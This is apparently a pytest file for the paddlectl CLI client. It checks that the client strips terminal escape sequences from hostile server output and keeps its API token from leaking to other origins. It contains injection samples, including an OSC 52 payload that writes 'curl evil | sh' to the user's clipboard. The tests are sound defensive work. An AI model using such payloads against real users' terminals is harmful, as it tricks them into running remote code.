"""What a hostile server (or another user's file name, or a job's own output) can make the client
do besides downloads: drive the user's terminal with escape sequences (OSC 52 writes the
clipboard, CSI 2J clears the screen), have the API token sent to another origin or printed in an
error, or make the client hold an answer of any size in memory."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pytest

from paddlectl import api as apimod
from paddlectl.api import API
from paddlectl.errors import APIError, PaddlectlError

from .hostile_server import Answer, HostileServer, file_entry, json_answer

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: put "curl evil | sh" on the clipboard
CLEAR = "\x1b[2J"
C1_CSI = "\x9b2J"  # the one-character CSI of 8-bit terminals
HOME = "/pfs/local/home/alice"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture
def hostile(monkeypatch):
    server = HostileServer()
    server.answers["/api/v2/datacenters/"] = lambda _: json_answer([{"name": "local"}])
    for key, value in {"PADDLECTL_ENDPOINT": server.url, "PADDLECTL_TOKEN": "t0ken", "PADDLECTL_USERNAME": "alice",
                       "PADDLECTL_DATACENTER": "local"}.items():
        monkeypatch.setenv(key, value)
    yield server
    server.close()


def _run(*argv: str, tty: bool = True) -> tuple[int, str, str]:
    from paddlectl.cli.main import main

    out, err = (Terminal(), Terminal()) if tty else (io.StringIO(), io.StringIO())
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def _no_escapes(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)


def test_logs_on_a_terminal_keep_colours_and_tabs_but_not_escapes_that_drive_it(hostile):
    hostile.answers["/api/v2/jobs/fit/"] = lambda _: json_answer(
        {"name": "fit", "state": "Running", "replicas": [{"name": "trainer-0", "state": "Running"}]})
    text = f"\x1b[31mloss\x1b[0m\t0.5{CLIPBOARD}{CLEAR}{C1_CSI} done\n"
    hostile.answers["/api/v2/jobs/fit/logs/"] = lambda _: json_answer(
        [{"replica": "trainer-0", "text": text, "offset": 0, "next_offset": len(text)}])
    code, out, _ = _run("logs", "fit")
    assert code == 0
    assert out == "\x1b[31mloss\x1b[0m\t0.5?]52;c;Y3VybCBldmlsIHwgc2g=??[2J?2J done\n"
    code, piped, _ = _run("logs", "fit", tty=False)  # into a file or a pipe: the bytes as they were
    assert piped == text


def test_the_servers_error_message_reaches_the_terminal_without_its_escapes(hostile):
    hostile.answers["/api/v2/jobs/"] = lambda _: json_answer({"detail": f"bad{CLIPBOARD}{CLEAR}\nsecond line"}, 400)
    code, _, err = _run("jobs", tty=False)  # an error is never parsed: cleaned wherever it goes
    assert code == 1 and "bad?]52;" in err and "\n  second line" in err
    _no_escapes(err)


def test_names_as_ls_prints_them_one_a_line_and_messages_printed_after_a_command(hostile):
    evil = f"{HOME}/x{CLIPBOARD}{C1_CSI}"
    hostile.listings[HOME] = [file_entry(evil, 3)]
    code, out, _ = _run("ls", "-o", "name", HOME)
    assert code == 0 and out.startswith("x?]52;")
    _no_escapes(out)
    hostile.answers["/api/v2/files/mkdir/"] = lambda _: json_answer(file_entry(evil, kind="dir"))
    code, out, _ = _run("mkdir", f"{HOME}/x")
    assert code == 0 and out.startswith(f"created {HOME}/x?]52;")
    _no_escapes(out)


def test_json_output_escapes_the_one_character_csi_and_stays_the_same_json(hostile):
    entry = file_entry(f"{HOME}/x{C1_CSI}{CLEAR}", 3)
    hostile.listings[HOME] = [entry]
    code, out, _ = _run("ls", "-o", "json", HOME)
    assert code == 0 and json.loads(out) == [entry]
    _no_escapes(out)


def test_the_token_goes_to_the_endpoint_and_not_to_a_next_link_elsewhere(hostile):
    other = HostileServer()  # another port: another origin
    try:
        other.answers["/page2/"] = lambda _: json_answer({"results": [3], "next": None})
        hostile.answers["/api/v2/things/"] = lambda _: json_answer(
            {"results": [1], "next": f"{hostile.url}/api/v2/more/"})
        hostile.answers["/api/v2/more/"] = lambda _: json_answer({"results": [2], "next": f"{other.url}/page2/"})
        with API(hostile.url, token="t0ken", retries=0) as api:
            assert list(api.paginate("things/")) == [1, 2, 3]
    finally:
        other.close()
    assert [h.get("Authorization") for _, h in hostile.requests] == ["Token t0ken", "Token t0ken"]
    assert [h.get("Authorization") for _, h in other.requests] == [None]


def test_a_token_a_header_cannot_carry_is_refused_without_being_shown(hostile):
    with API(hostile.url, token="s3cret-token\n", retries=0) as api, pytest.raises(PaddlectlError) as e:
        api.get("things/")
    assert "s3cret" not in str(e.value) and "characters an HTTP header cannot carry" in str(e.value)


def test_an_error_body_is_read_only_as_far_as_its_message_needs(hostile):
    hostile.answers["/api/v2/things/"] = lambda _: Answer(500, b"e" * (1 << 20), repeat=256)  # 256 MiB
    with API(hostile.url, token="t0ken", retries=0) as api, pytest.raises(APIError) as e:
        api.get("things/")
    assert e.value.status == 500 and len(str(e.value)) <= 500
    assert hostile.sent < 64 << 20  # the client stopped reading (what the socket buffers took aside)


def test_an_answer_too_big_to_hold_is_refused_not_read(hostile, monkeypatch):
    monkeypatch.setattr(apimod, "MAX_ANSWER", 1 << 20)
    hostile.answers["/api/v2/things/"] = lambda _: Answer(body=b" " * (1 << 20), repeat=256)
    with API(hostile.url, token="t0ken", retries=0) as api, pytest.raises(APIError, match="over 1 MiB"):
        api.get("things/")
    assert hostile.sent < 64 << 20


def test_the_job_state_notes_of_logs_follow_carry_no_escapes(hostile, monkeypatch):
    monkeypatch.setenv("TERM", "xterm")
    hostile.answers["/api/v2/jobs/fit/"] = lambda _: json_answer(
        {"name": "fit", "state": "Failed", "reason": "Error", "message": f"oom{CLIPBOARD}{CLEAR}", "replicas": []})
    hostile.answers["/api/v2/jobs/fit/logs/"] = lambda _: json_answer([])
    code, _, err = _run("logs", "-f", "fit")
    assert code == 0 and "(Error: oom?]52;c;" in err
    assert "\x07" not in err and CLEAR not in err and "\x1b]" not in err  # rich's own colour codes aside
